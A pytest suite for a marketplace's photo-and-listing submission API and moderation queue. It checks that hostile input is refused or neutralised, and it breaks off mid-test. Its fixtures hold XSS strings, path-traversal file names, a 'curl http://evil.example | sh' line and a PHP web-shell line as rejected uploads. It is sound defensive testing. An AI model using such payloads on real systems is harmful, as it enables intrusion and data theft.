"""``POST /api/submissions`` and the moderation queue behind it (checkout/intake.py,
checkout/moderation.py): a valid listing is stored with clean photos; every hostile request is
refused or neutralised with a clear message, and the queue's rows and the files under
``var/submissions`` always agree. Each test that takes ``database_url`` runs on SQLite and on
PostgreSQL."""

from __future__ import annotations

import ast
import io
import json
import re
import select
import socket
import subprocess
import sys
from copy import deepcopy
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, ImageCms
from sqlalchemy import func, text
from sqlalchemy import select as sql_select

from checkout.catalogue import CatalogueSource
from checkout.catalogue import parse as parse_catalogue
from checkout.moderation import ModerationError, ModerationQueue
from checkout.photos import MAX_SIDE, reencode
from checkout.schema import submissions
from checkout.settings import Settings
from generator.build import build
from generator.models.submission import MAX_PHOTOS

from .checkout_fixtures import SITE_ORIGIN, LiveServer, Shop

REFERENCE = re.compile(r"^TW-[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}$")
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>&amp;'
SHORT_HOSTILE = "<img src=x onerror=alert(1)>"

Part = tuple[str, tuple[str, bytes, str]]


def submission(**changes: Any) -> dict[str, Any]:
    """A valid submission for the fixture catalogue's cooperative `tamount`."""
    body: dict[str, Any] = {
        "lang": "fr",
        "cooperative_id": "tamount",
        "product": {
            "name": {"ar": "أملو باللوز", "fr": "Amlou aux amandes"},
            "summary": {"ar": "أملو تقليدي", "fr": "L'amlou traditionnel du Souss"},
            "category": "amlou-spreads",
            "price": "80.00",
            "weight_g": 380,
            "net_quantity": {"value": 250, "unit": "g"},
            "availability": "in_stock",
            "stock": 12,
            "description": {"ar": "لوز محمص وزيت أركان وعسل.", "fr": "Amandes, argan et miel."},
        },
        "photos": [{"alt": {"ar": "وعاء أملو", "fr": "Un pot d'amlou"}}],
        "contact": {"name": "Fatima Zahra", "phone": "+212612345678"},
        "consent": True,
    }
    body.update(changes)
    return deepcopy(body)


def new_cooperative() -> dict[str, Any]:
    return {
        "name": {"ar": "تعاونية الأمل", "fr": "Coopérative Al Amal"},
        "summary": {"ar": "نساء من تزنيت", "fr": "Des femmes de Tiznit"},
        "register": {
            "number": "45/2019",
            "court": {"ar": "المحكمة الابتدائية بتزنيت", "fr": "Tribunal de Tiznit"},
            "date": "2019-06-03",
        },
        "sector": "agriculture",
        "region": "souss-massa",
        "province": "tiznit",
        "commune": {"ar": "تزنيت", "fr": "Tiznit"},
        "founded": "2019-05-01",
        "members": {"total": 20, "women": 20, "youth": 4, "as_of": "2025-12-31"},
        "contact": {"phone": "+212528000001"},
        "delivery": {"zones": ["souss-massa"], "fee": "30.00", "lead_time_days": 4},
        "description": {"ar": "نحضّر الأملو.", "fr": "Nous préparons l'amlou."},
    }


def jpeg(size: tuple[int, int] = (800, 600), **save: Any) -> bytes:
    image = Image.new("RGB", size, (180, 120, 60))
    out = io.BytesIO()
    image.save(out, "JPEG", **save)
    return out.getvalue()


def png(size: tuple[int, int] = (640, 480), mode: str = "RGBA") -> bytes:
    image = Image.new(mode, size, (10, 140, 40, 128) if mode == "RGBA" else 1)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def photo(name: str = "amlou.jpg", content: bytes | None = None, kind: str = "image/jpeg") -> Part:
    return ("photo", (name, jpeg() if content is None else content, kind))


def send(
    shop: Shop,
    body: Any = None,
    photos: list[Part] | None = None,
    *,
    raw: str | None = None,
    website: str = "",
    **headers: str,
) -> Any:
    data = {"submission": raw if raw is not None else json.dumps(body or submission())}
    if website:
        data["website"] = website
    return shop.client.post(
        "/api/submissions",
        data=data,
        files=[photo()] if photos is None else photos,
        headers={"Origin": SITE_ORIGIN, **headers},
    )


@pytest.fixture
def shop(shop_factory: Any, tmp_path: Path) -> Shop:
    shop: Shop = shop_factory(var_dir=tmp_path / "var")
    return shop


def rows(shop: Shop) -> list[Any]:
    with shop.engine.connect() as db:
        return list(db.execute(sql_select(submissions).order_by(submissions.c.created_at)).all())


def folders(shop: Shop) -> set[str]:
    root = shop.settings.var_dir / "submissions"
    return {path.name for path in root.iterdir()} if root.exists() else set()


def assert_consistent(shop: Shop, stored: int) -> None:
    """``stored`` rows, and one folder per pending row holding exactly its photos."""
    found = rows(shop)
    assert len(found) == stored
    pending = {row.reference for row in found if row.status != "rejected"}
    assert folders(shop) == pending  # no half-written submission, no orphan
    for row in found:
        if row.reference in pending:
            names = sorted(
                p.name for p in (shop.settings.var_dir / "submissions" / row.reference).iterdir()
            )
            assert names == sorted(f"photo-{n}.jpg" for n in range(1, row.photo_count + 1))


def refused(response: Any, status: int, code: str, field: str | None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error: dict[str, Any] = response.json()["error"]
    assert (error["code"], error["field"]) == (code, field), error
    assert error["message"]
    return error


# --------------------------------------------------------------------------- a valid submission


def test_a_valid_submission_is_stored_with_a_clean_upright_photo(shop: Shop) -> None:
    # A phone photo: wider than tall as stored, with "rotate 90° clockwise to show" and the
    # place it was taken in its EXIF, a comment and an ICC profile.
    image = Image.new("RGB", (3000, 1000), (220, 20, 20))
    image.paste((20, 20, 220), (1500, 0, 3000, 1000))  # left red, right blue
    exif = image.getexif()
    exif[0x0112] = 6  # Orientation: rotate 90° CW
    exif[0x0110] = "Phone X"  # Model
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (30.0, 25.0, 12.0), 3: "W", 4: (9.0, 35.0, 1.0)})
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"home address", icc_profile=profile)
    original = out.getvalue()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # the GPS is there

    response = send(shop, photos=[photo("IMG_0042.JPG", original)])

    assert response.status_code == 201, response.text
    answer = response.json()
    assert answer["status"] == "pending" and REFERENCE.match(answer["reference"])
    assert response.headers["cache-control"] == "no-store"
    [row] = rows(shop)
    assert row.reference == answer["reference"] and row.status == "pending"
    assert (row.lang, row.cooperative_id, row.title) == ("fr", "tamount", "Amlou aux amandes")
    data = json.loads(row.data)
    # As a content file writes it: money as text, only what was sent, the contact kept apart.
    assert data["product"]["price"] == "80.00" and data["product"]["net_quantity"]["value"] == 250
    assert "contact" not in data and data["consent"] is True
    assert json.loads(row.contact) == {"name": "Fatima Zahra", "phone": "+212612345678"}
    assert row.photo_count == 1 and row.decided_at is None and row.content_paths is None
    assert len(row.client) == 32 and "testclient" not in row.client  # a hash, not the address
    assert_consistent(shop, 1)

    stored = shop.settings.var_dir / "submissions" / row.reference / "photo-1.jpg"
    raw = stored.read_bytes()
    with Image.open(stored) as result:
        assert result.format == "JPEG" and result.mode == "RGB"
        assert result.size == (667, MAX_SIDE)  # turned upright, longest side 2000
        assert not result.getexif() and not result.getexif().get_ifd(0x8825)
        assert not {"exif", "icc_profile", "comment", "xmp"} & set(result.info)
        top = result.getpixel((result.width // 2, 20))
        bottom = result.getpixel((result.width // 2, result.height - 20))
    assert b"Exif" not in raw and b"home address" not in raw and b"Phone X" not in raw
    assert isinstance(top, tuple) and isinstance(bottom, tuple)
    assert top[0] > 150 > top[2] and bottom[2] > 150 > bottom[0]  # red on top after turning

    queued = shop.app.state.queue.get(row.reference)
    assert queued.photos == [stored] and queued.contact["phone"] == "+212612345678"
    assert queued.data == data and queued.status == "pending"


def test_a_new_cooperative_and_several_photos_are_stored(shop: Shop) -> None:
    body = submission(cooperative_id=None, cooperative=new_cooperative())
    del body["cooperative_id"]
    body["photos"] = [{"alt": {"ar": f"صورة {n}", "fr": f"Photo {n}"}} for n in range(3)]
    files = [photo("a.jpg"), photo("b.png", png(), "image/png"), photo("c.jpg")]
    response = send(shop, body, files)
    assert response.status_code == 201, response.text
    [row] = rows(shop)
    data = json.loads(row.data)
    assert row.cooperative_id is None and row.photo_count == 3
    assert data["cooperative"]["register"]["number"] == "45/2019"  # the alias, as in files
    assert data["cooperative"]["delivery"]["fee"] == "30.00"
    assert data["cooperative"]["founded"] == "2019-05-01"
    assert_consistent(shop, 1)


# --------------------------------------------------------------------------- hostile text


def _text_paths(body: dict[str, Any]) -> list[tuple[Any, Any]]:
    """Every free text of a submission (names, summaries, descriptions, photo texts, the
    contact, a keyword, the ONSSA number; the cooperative's when there is one)."""
    product, contact = body["product"], body["contact"]
    places: list[tuple[Any, Any]] = [
        (product[key], lang) for key in ("name", "summary", "description") for lang in ("ar", "fr")
    ]
    places += [(alt["alt"], lang) for alt in body["photos"] for lang in ("ar", "fr")]
    places += [(contact, "name"), (contact, "role"), (product, "onssa_number")]
    coop = body.get("cooperative")
    if coop:
        places += [
            (coop[key], lang)
            for key in ("name", "summary", "description", "commune")
            for lang in ("ar", "fr")
        ]
        places += [(coop["register"], "number"), (coop["register"]["court"], "fr")]
    return places


@pytest.mark.parametrize("existing", [True, False], ids=["existing-coop", "new-coop"])
def test_html_in_every_text_field_is_kept_as_text_and_never_echoed(
    shop: Shop, existing: bool
) -> None:
    body = submission()
    if not existing:
        del body["cooperative_id"]
        body["cooperative"] = new_cooperative()
    places = _text_paths(body)
    for container, key in places:
        container[key] = HOSTILE
    body["product"]["tags"] = [SHORT_HOSTILE]  # a search word: 40 characters at most
    response = send(shop, body)
    assert response.status_code == 201, response.text
    assert b"<" not in response.content and b">" not in response.content
    [row] = rows(shop)
    stored = json.loads(row.data)
    # Kept exactly as typed: it is text, escaped wherever it is shown (the site's templates
    # autoescape; the moderation command prints text).
    assert stored["product"]["name"] == {"ar": HOSTILE, "fr": HOSTILE}
    assert stored["photos"][0]["alt"]["fr"] == HOSTILE
    assert stored["product"]["tags"] == [SHORT_HOSTILE]
    assert json.loads(row.contact)["role"] == HOSTILE
    assert row.title == HOSTILE
    assert _count(stored, HOSTILE) + _count(json.loads(row.contact), HOSTILE) == len(places)


def _count(value: Any, wanted: str) -> int:
    if isinstance(value, dict):
        return sum(_count(item, wanted) for item in value.values())
    if isinstance(value, list):
        return sum(_count(item, wanted) for item in value)
    return int(value == wanted)


def test_an_error_naming_hostile_text_never_carries_markup(shop: Shop) -> None:
    body = submission()
    body["product"]["<script>alert(1)</script>"] = "x"
    response = send(shop, body)
    error = refused(response, 422, "invalid", "product.<script>alert(1)</script>")
    assert "<script>" in error["message"]  # named, as data…
    assert b"<" not in response.content and b"&" not in response.content  # …never as markup
    assert "\\u003cscript\\u003e" in response.text
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert_consistent(shop, 0)


@pytest.mark.parametrize("hidden", ["\x1b]0;owned\x07", "\x00", "\u202e", "\x85"])
def test_control_characters_are_refused_naming_the_field(shop: Shop, hidden: str) -> None:
    """Terminal escapes, NUL, a right-to-left override: never stored, shown or built."""
    body = submission()
    body["product"]["summary"]["fr"] = f"Bon{hidden} produit"
    error = refused(send(shop, body), 422, "invalid", "product.summary.fr")
    assert "caractère de contrôle" in error["message"]  # the sender's language (fr)
    body["lang"] = "ar"
    assert "حرف تحكم" in send(shop, body).json()["error"]["message"]
    assert_consistent(shop, 0)


def test_line_breaks_and_tabs_in_a_description_are_kept(shop: Shop) -> None:
    body = submission()
    body["product"]["description"]["fr"] = "Première ligne.\n\n\tDeuxième paragraphe."
    assert send(shop, body).status_code == 201
    [row] = rows(shop)
    assert json.loads(row.data)["product"]["description"]["fr"].count("\n") == 2


# --------------------------------------------------------------------------- sizes


def test_a_50_mb_upload_is_refused(shop: Shop) -> None:
    huge = b"\xff\xd8\xff\xe0" + b"\0" * (50 * 1024 * 1024)
    response = send(shop, photos=[photo("big.jpg", huge)])
    error = refused(response, 413, "too_large", None)
    assert (
        "30 Mo"
        in shop.client.post(
            "/api/submissions",
            files=[photo("big.jpg", huge)],
            headers={"Origin": SITE_ORIGIN, "Accept-Language": "fr-MA,fr;q=0.9"},
        ).json()["error"]["message"]
    )
    assert "30 MB" in error["message"]
    assert_consistent(shop, 0)


def test_a_50_mb_chunked_upload_is_cut_off_without_being_read_whole(
    shop: Shop, tmp_path: Path
) -> None:
    """No Content-Length: the service counts the bytes as they come and answers 413 once
    past 30 MB, without waiting for the rest (the client stops sending when it sees the
    answer)."""
    boundary = "taawunboundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="submission"\r\n\r\n'
        f"{json.dumps(submission())}\r\n--{boundary}\r\n"
        'Content-Disposition: form-data; name="photo"; filename="big.jpg"\r\n'
        "Content-Type: image/jpeg\r\n\r\n"
    ).encode()
    total = 50 * 1024 * 1024
    chunk = b"\0" * 65536
    with (
        LiveServer(shop.app) as server,
        socket.create_connection(("127.0.0.1", server.port)) as conn,
    ):
        conn.sendall(
            (
                "POST /api/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                f"Origin: {SITE_ORIGIN}\r\nTransfer-Encoding: chunked\r\n"
                f"Content-Type: multipart/form-data; boundary={boundary}\r\n\r\n"
            ).encode()
        )
        sent = 0
        answer = b""
        try:
            conn.sendall(b"%x\r\n%s\r\n" % (len(head), head))
            while sent < total:
                readable, _, _ = select.select([conn], [], [], 0)
                if readable:
                    break
                conn.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass
        conn.settimeout(10)
        try:
            while b"\r\n\r\n" not in answer:
                data = conn.recv(65536)
                if not data:
                    break
                answer += data
        except (ConnectionResetError, TimeoutError):
            pass
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert sent < total  # refused before the 50 MB were all sent
    assert_consistent(shop, 0)


def test_a_photo_over_its_own_limit_is_refused(shop_factory: Any, tmp_path: Path) -> None:
    shop: Shop = shop_factory(var_dir=tmp_path / "var", max_photo_bytes=100_000)
    body = submission()
    body["photos"] *= 2
    noisy = Image.effect_noise((1200, 1200), 100).convert("RGB")
    out = io.BytesIO()
    noisy.save(out, "JPEG", quality=95)
    assert len(out.getvalue()) > 100_000
    response = send(shop, body, [photo(), photo("big.jpg", out.getvalue())])
    error = refused(response, 413, "photo_too_large", "photos.1")
    assert error["message"].startswith("Photo 2 : plus de 0.0954 Mo ; choisissez")
    assert_consistent(shop, 0)


@pytest.mark.parametrize(
    ("size", "mode"),
    [((20000, 20000), "1"), ((7000, 7000), "L")],
    ids=["over-pillow-limit", "over-our-limit"],
)
def test_a_decompression_bomb_is_refused_before_it_is_decoded(
    shop: Shop, size: tuple[int, int], mode: str
) -> None:
    out = io.BytesIO()
    Image.new(mode, size, 0).save(out, "PNG", optimize=True)
    assert len(out.getvalue()) < 1_000_000  # small on the wire, gigantic once decoded
    response = send(shop, photos=[photo("bomb.png", out.getvalue(), "image/png")])
    error = refused(response, 413, "photo_too_many_pixels", "photos.0")
    assert "40 mégapixels" in error["message"] and error["message"].startswith("Photo 1")
    assert_consistent(shop, 0)


# --------------------------------------------------------------------------- photo types and names


def test_a_png_named_jpg_is_accepted_and_re_encoded(shop: Shop) -> None:
    response = send(shop, photos=[photo("amlou.jpg", png(), "image/jpeg")])
    assert response.status_code == 201, response.text
    [row] = rows(shop)
    stored = shop.settings.var_dir / "submissions" / row.reference / "photo-1.jpg"
    with Image.open(stored) as result:
        assert result.format == "JPEG" and result.mode == "RGB" and result.size == (640, 480)
        r, g, b = result.getpixel((10, 10))  # type: ignore[misc]
    assert r > 100 and g > 180 and b > 100  # half-transparent green laid on white, not black


SCRIPT = b'#!/bin/sh\ncurl http://evil.example | sh\n<?php system($_GET["c"]); ?>\n'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, "GIF")
    return out.getvalue()


def _truncated_png() -> bytes:
    whole = png((400, 300), "RGB")
    return whole[: len(whole) // 2]


@pytest.mark.parametrize(
    "content",
    [SCRIPT, SVG, _gif(), b"", _truncated_png(), b"\xff\xd8\xff\xe0" + b"JFIF garbage" * 50],
    ids=["script", "svg", "gif", "empty", "truncated-png", "fake-jpeg-header"],
)
def test_what_is_not_a_jpeg_png_or_webp_photo_is_refused(shop: Shop, content: bytes) -> None:
    body = submission(lang="ar")
    body["photos"] *= 2
    files = [photo(), photo("photo.jpg", content)]
    response = send(shop, body, files, **{"Accept-Language": "fr"})
    error = refused(response, 415, "unsupported_photo", "photos.1")
    assert error["message"].startswith("الصورة 2")  # the submission's own language wins…
    assert "JPEG" in error["message"]
    assert_consistent(shop, 0)  # …and the good first photo was not kept either


def _encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


@pytest.mark.parametrize(
    ("raw", "colour"),
    [
        (_encoded(Image.new("RGB", (300, 200), (200, 30, 30)), "WEBP", quality=95), (200, 30, 30)),
        (_encoded(Image.new("CMYK", (300, 200), (0, 255, 255, 0)), "JPEG"), (255, 0, 0)),
        (_encoded(Image.new("I;16", (300, 200), 32768), "PNG"), (128, 128, 128)),
        (_encoded(Image.new("P", (300, 200), 0), "PNG", transparency=0), (255, 255, 255)),
    ],
    ids=["webp", "cmyk-jpeg", "16-bit-grey-png", "transparent-palette-png"],
)
def test_every_kind_of_photo_becomes_a_plain_rgb_jpeg(raw: bytes, colour: tuple[int, ...]) -> None:
    with Image.open(io.BytesIO(reencode(raw, 40_000_000))) as result:
        assert result.format == "JPEG" and result.mode == "RGB" and result.size == (300, 200)
        pixel = result.getpixel((150, 100))
    assert isinstance(pixel, tuple)
    assert all(abs(a - b) <= 6 for a, b in zip(pixel, colour, strict=True)), pixel


def test_the_senders_file_names_are_never_used(shop: Shop, tmp_path: Path) -> None:
    names = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "a/../../../x.jpg"]
    body = submission()
    body["photos"] *= len(names)
    response = send(shop, body, [photo(name) for name in names])
    assert response.status_code == 201, response.text
    [row] = rows(shop)
    folder = shop.settings.var_dir / "submissions" / row.reference
    assert sorted(p.name for p in folder.iterdir()) == [f"photo-{n}.jpg" for n in range(1, 5)]
    # Nothing was written anywhere else under the test's folder.
    written = {p.name for p in tmp_path.rglob("*") if p.is_file()}
    assert not written & {"passwd", "win.ini", "x.jpg"}
    assert_consistent(shop, 1)


# --------------------------------------------------------------------------- the form's fields


def test_unknown_fields_are_refused_naming_them(shop: Shop) -> None:
    response = send(shop, submission(price_override="1.00"))
    error = refused(response, 422, "invalid", "price_override")
    assert (
        error["message"]
        == "«price_override» : ce champ n'existe pas dans le formulaire ; retirez-le."
    )
    body = submission()
    body["contact"]["ip"] = "1.2.3.4"
    refused(send(shop, body), 422, "invalid", "contact.ip")
    assert_consistent(shop, 0)


@pytest.mark.parametrize("consent", [False, None, "no"], ids=["false", "missing", "no"])
def test_a_submission_without_consent_is_refused(shop: Shop, consent: Any) -> None:
    body = submission(consent=consent, lang="ar")
    if consent is None:
        del body["consent"]
    error = refused(send(shop, body), 422, "invalid", "consent")
    assert error["message"].startswith("الموافقة") and "09-08" in error["message"]
    assert_consistent(shop, 0)


def test_field_errors_name_the_field_in_words(shop: Shop) -> None:
    body = submission()
    body["product"]["name"]["fr"] = ""
    error = refused(send(shop, body), 422, "invalid", "product.name.fr")
    assert error["message"] == "Produit › Nom › en français : vide ; remplissez-le."
    body = submission(lang="en")
    body["product"]["price"] = 80.5
    error = refused(send(shop, body), 422, "invalid", "product.price")
    assert error["message"] == 'Product › Price: not an amount in dirhams; write it like "120.00".'
    body = submission()
    body["contact"]["phone"] = "06 12 34 56 78"
    error = refused(send(shop, body), 422, "invalid", "contact.phone")
    assert "+212612345678" in error["message"]
    body = submission()
    body["photos"][0]["alt"]["ar"] = "x" * 201
    error = refused(send(shop, body), 422, "invalid", "photos.0.alt.ar")
    assert error["message"].startswith("Photo 1 › Ce que montre la photo › en arabe : trop long")


def test_references_are_checked_against_the_catalogue(shop: Shop) -> None:
    error = refused(
        send(shop, submission(cooperative_id="nowhere")),
        422,
        "unknown_cooperative",
        "cooperative_id",
    )
    assert "identifiant" in error["message"]
    body = submission()
    body["product"]["category"] = "spaceships"
    refused(send(shop, body), 422, "unknown_category", "product.category")
    body = submission()
    del body["cooperative_id"]
    body["cooperative"] = new_cooperative()
    body["cooperative"]["province"] = "casablanca"  # a province, of another region
    refused(send(shop, body), 422, "unknown_province", "cooperative.province")
    body["cooperative"]["province"] = "tiznit"
    body["cooperative"]["delivery"]["zones"] = ["souss-massa", "atlantis"]
    refused(send(shop, body), 422, "unknown_region", "cooperative.delivery.zones.1")
    body["cooperative"]["delivery"]["zones"] = "national"
    body["cooperative"]["sector"] = "piracy"
    refused(send(shop, body), 422, "unknown_sector", "cooperative.sector")
    assert_consistent(shop, 0)


def test_more_photos_than_allowed_are_refused(shop: Shop) -> None:
    seven = [photo(f"{n}.jpg") for n in range(MAX_PHOTOS + 1)]
    error = refused(send(shop, submission(), seven), 422, "too_many_photos", "photos")
    assert f"{MAX_PHOTOS} photos au plus" in error["message"]
    body = submission()
    body["photos"] *= MAX_PHOTOS + 1
    refused(send(shop, body, seven), 422, "invalid", "photos")
    # Far more files than that: the parser itself stops at twice the limit.
    many = [photo(f"{n}.jpg", b"x") for n in range(MAX_PHOTOS * 2 + 1)]
    refused(send(shop, submission(), many), 422, "too_many_photos", "photos")
    assert_consistent(shop, 0)


def test_photos_must_match_their_descriptions(shop: Shop) -> None:
    body = submission()
    body["photos"] *= 2
    error = refused(send(shop, body, [photo()]), 422, "photo_count", "photos")
    # Counts stated apart from their nouns: "1 fichiers" never happens, in any language.
    assert "photos décrites : 2 ; fichiers envoyés : 1." in error["message"]
    refused(send(shop, submission(), [photo(), photo()]), 422, "photo_count", "photos")
    no_photo = [("notes", ("notes.txt", b"x", "text/plain"))]  # a file, but not a photo
    refused(send(shop, submission(), no_photo), 422, "photo_count", "photos")
    assert_consistent(shop, 0)


def test_broken_requests_are_refused(shop: Shop) -> None:
    error = refused(
        send(shop, raw='{"lang": "fr", "product": '), 400, "malformed_json", "submission"
    )
    assert "JSON" in error["message"]
    refused(send(shop, raw="[1, 2]"), 422, "invalid", "submission")
    refused(send(shop, raw="[" * 60_000), 400, "malformed_json", "submission")  # too deep
    response = shop.client.post(
        "/api/submissions", files=[photo()], headers={"Origin": SITE_ORIGIN}
    )
    refused(response, 400, "missing_part", "submission")
    response = shop.client.post(
        "/api/submissions", json=submission(), headers={"Origin": SITE_ORIGIN}
    )
    refused(response, 415, "unsupported_media_type", None)
    refused(send(shop, raw=json.dumps(submission()) + " " * 70_000), 413, "too_large", "submission")
    response = shop.client.post(
        "/api/submissions",
        content=b"--x\r\nnonsense",
        headers={"Origin": SITE_ORIGIN, "Content-Type": "multipart/form-data"},  # no boundary
    )
    refused(response, 400, "bad_form", None)
    response = send(shop, Origin="https://evil.example")
    refused(response, 403, "origin_not_allowed", None)
    assert_consistent(shop, 0)


def test_the_site_may_post_from_the_browser(shop: Shop) -> None:
    preflight = shop.client.options(
        "/api/submissions",
        headers={
            "Origin": SITE_ORIGIN,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type",
        },
    )
    assert preflight.status_code == 200
    assert preflight.headers["access-control-allow-origin"] == SITE_ORIGIN
    response = send(shop)
    assert response.headers["access-control-allow-origin"] == SITE_ORIGIN
    other = shop.client.options(
        "/api/submissions",
        headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"},
    )
    assert "access-control-allow-origin" not in other.headers


# --------------------------------------------------------------------------- bots and floods


def test_a_filled_honeypot_looks_like_success_and_stores_nothing(shop: Shop) -> None:
    response = send(shop, website="http://cheap-pills.example")
    assert response.status_code == 201
    assert response.json()["status"] == "pending" and REFERENCE.match(response.json()["reference"])
    assert shop.app.state.queue.get(response.json()["reference"]) is None
    assert_consistent(shop, 0)
    assert send(shop, website="   ").status_code == 201  # blank is what people send
    assert_consistent(shop, 1)


def test_a_flood_from_one_client_is_cut_after_its_budget(shop: Shop) -> None:
    small = jpeg((64, 64))
    answers = [send(shop, photos=[photo("a.jpg", small)]).status_code for _ in range(100)]
    budget = shop.settings.submission_burst
    assert answers[:budget] == [201] * budget
    assert set(answers[budget:]) == {429}
    response = send(shop, photos=[photo("a.jpg", small)])
    error = refused(response, 429, "too_many_requests", None)
    assert int(response.headers["retry-after"]) >= 60 and "min" in error["message"]
    with shop.engine.connect() as db:
        count = db.execute(sql_select(func.count()).select_from(submissions)).scalar_one()
    assert count == budget
    assert_consistent(shop, budget)


def test_a_person_correcting_mistakes_is_not_locked_out(shop: Shop) -> None:
    for _ in range(3):
        refused(send(shop, submission(consent=False)), 422, "invalid", "consent")
    answers = [send(shop).status_code for _ in range(shop.settings.submission_burst)]
    assert answers == [201] * shop.settings.submission_burst


def test_each_client_has_its_own_budget(shop_factory: Any, tmp_path: Path) -> None:
    shop: Shop = shop_factory(
        var_dir=tmp_path / "var", trust_forwarded_for=True, submission_burst=1
    )
    first = {"X-Forwarded-For": "198.51.100.1"}
    assert send(shop, None, None, **first).status_code == 201
    assert send(shop, None, None, **first).status_code == 429
    assert send(shop, None, None, **{"X-Forwarded-For": "198.51.100.2"}).status_code == 201
    a, b = rows(shop)
    assert a.client != b.client and "198.51" not in a.client + b.client


# --------------------------------------------------------------------------- failures stay clean


def test_a_database_failure_leaves_no_files(shop: Shop) -> None:
    with shop.engine.begin() as db:
        db.execute(text("DROP TABLE submissions"))
    response = send(shop)
    refused(response, 503, "unavailable", None)
    assert folders(shop) == set()  # neither the photos nor a temporary folder


# --------------------------------------------------------------------------- the queue's API


def test_the_queue_accepts_and_rejects_once(shop: Shop) -> None:
    queue: ModerationQueue = shop.app.state.queue
    first = send(shop).json()["reference"]
    shop.clock.advance(minutes=1)
    second = send(shop).json()["reference"]
    assert [q.reference for q in queue.list()] == [second, first]  # newest first
    now = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    queue.accept(first, ["content/products/tamount/amlou-aux-amandes.yaml"], now)
    queue.reject(second, "Photo floue", now)
    accepted, rejected = queue.get(first), queue.get(second)
    assert accepted is not None and rejected is not None
    assert accepted.status == "accepted" and accepted.decided_at == now
    assert accepted.content_paths == ["content/products/tamount/amlou-aux-amandes.yaml"]
    assert len(accepted.photos) == 1
    assert rejected.status == "rejected" and rejected.reason == "Photo floue"
    assert rejected.photos == [] and second not in folders(shop)  # photos deleted on reject
    assert [q.reference for q in queue.list("pending")] == []
    assert [q.reference for q in queue.list("rejected")] == [second]
    with pytest.raises(ModerationError, match="already accepted"):
        queue.reject(first, "late", now)
    with pytest.raises(ModerationError, match="no submission"):
        queue.accept("TW-0000-0000", [], now)
    with pytest.raises(ModerationError, match="reason"):
        queue.reject(first, "  ", now)
    assert queue.get("../../etc/passwd") is None
    with pytest.raises(ModerationError, match="not a submission reference"):
        queue.reject("../../../tmp", "x", now)
    assert_consistent(shop, 2)


def test_a_failed_insert_removes_the_photos(database_url: str, tmp_path: Path) -> None:
    from checkout.database import make_engine, migrate

    engine = make_engine(database_url)
    migrate(engine)
    queue = ModerationQueue(engine, tmp_path / "var")
    with engine.begin() as db:
        db.execute(text("DROP TABLE submissions"))
    with pytest.raises(Exception):  # noqa: B017 - the driver's own error class
        queue.add({"lang": "fr"}, {}, [jpeg()], "127.0.0.1", datetime.now(UTC))
    assert list((tmp_path / "var" / "submissions").iterdir()) == []
    engine.dispose()


# --------------------------------------------------------------------------- settings and catalogue


def test_settings_come_from_the_environment() -> None:
    settings = Settings.from_env(
        {
            "TAAWUN_VAR_DIR": "/srv/taawun/var",
            "TAAWUN_SUBMISSION_BURST": "3",
            "TAAWUN_SUBMISSION_RATE_PER_HOUR": "12",
            "TAAWUN_MAX_PHOTO_BYTES": "1000000",
        }
    )
    assert settings.var_dir == Path("/srv/taawun/var")
    assert (settings.submission_burst, settings.submission_rate_per_hour) == (3, 12.0)
    assert settings.max_photo_bytes == 1_000_000
    assert Settings().var_dir == Path("var") and Settings().max_submission_bytes == 30 * 2**20


def test_the_built_catalogue_lists_what_a_submission_may_refer_to(minimal_site: Path) -> None:
    output = minimal_site.parent / "public"
    build(minimal_site, output)
    catalogue = parse_catalogue((output / "catalogue.json").read_bytes())
    assert catalogue.categories and catalogue.sectors
    assert set(catalogue.provinces) == set(catalogue.regions)
    assert all(isinstance(names.get("fr"), str) for names in catalogue.categories.values())
    assert CatalogueSource(str(output)).current.categories == catalogue.categories


def test_checkout_imports_only_the_models_from_the_generator() -> None:
    """checkout/ may import `generator.models` (one set of rules for content) and nothing else
    of the generator; the models themselves need only their message catalogue."""
    root = Path(__file__).resolve().parents[1]
    for path in (root / "checkout").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = (
                [node.module or ""]
                if isinstance(node, ast.ImportFrom) and node.level == 0
                else [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else []
            )
            for name in names:
                if name.split(".")[0] == "generator":
                    assert name.startswith("generator.models"), f"{path}: imports {name}"
    loaded = subprocess.run(
        [sys.executable, "-c", "import sys, checkout.app; print(*sorted(sys.modules))"],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    generator = {name for name in loaded if name.split(".")[0] == "generator"}
    allowed = ("generator.models", "generator.messages")
    assert generator - {"generator"} and all(
        name.startswith(allowed) for name in generator - {"generator"}
    ), generator


# --------------------------------------------------------------------------- review: odd inputs


def test_a_photo_with_a_damaged_exif_tag_is_turned_upright_and_stored(shop: Shop) -> None:
    """A phone's EXIF block with a tag of an unexpected type (here a text where a number is
    due): the photo is still turned upright and stored, never a server error."""
    image = Image.new("RGB", (120, 80), (200, 10, 10))
    exif = image.getexif()
    exif[0x0112] = 6  # Orientation: rotate 90° CW
    exif[0x0110] = "Phone X"  # Model, a text…
    out = io.BytesIO()
